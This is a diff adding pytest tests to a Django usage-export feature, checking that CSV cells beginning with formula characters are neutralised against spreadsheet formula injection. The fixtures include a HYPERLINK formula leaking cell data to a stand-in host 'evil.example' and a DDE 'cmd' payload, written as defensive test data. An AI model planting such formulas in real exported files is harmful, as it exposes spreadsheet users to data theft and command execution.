@@ -2,8 +2,11 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import UTC, datetime
 
 import pytest
+
+from tests.usage.conftest import add_usage
 
 pytestmark = pytest.mark.django_db
 
@@ -51,3 +54,26 @@ def test_a_bad_range_gets_a_clear_page(client, alice, team, query, message):
     response = client.get(f"/a/{team.slug}/usage/export.csv?{query}")
     assert response.status_code == 400
     assert message in response.content.decode().replace("&#x27;", "'")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_cells_cannot_become_spreadsheet_formulas(client, alice, team, live_key, start):
+    """OWASP CSV injection: a key name or endpoint a customer controls starts with a formula
+    character; the cell gets a leading apostrophe. The count column stays a plain number."""
+    live_key.name = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
+    live_key.save(update_fields=["name"])
+    hour = datetime(2026, 11, 23, 20, tzinfo=UTC)
+    add_usage(team, live_key, hour, 7, endpoint=f"{start}cmd|' /C calc'!A0")
+    client.force_login(alice)
+    _, body = export(client, team, "start=2026-11-23&end=2026-11-23&by=hour")
+    [row] = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert row["key_name"] == "'" + live_key.name + f" ({live_key.prefix}…)"
+    assert row["endpoint"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["count"] == "7"
+    assert row["start"] == "2026-11-23T20:00:00+00:00"
+
+
+def test_numbers_are_never_neutralised():
+    from portal.csv_cells import safe_row
+
+    assert safe_row([-5, 0, 3.5, "-5", "plain", ""]) == [-5, 0, 3.5, "'-5", "plain", ""]
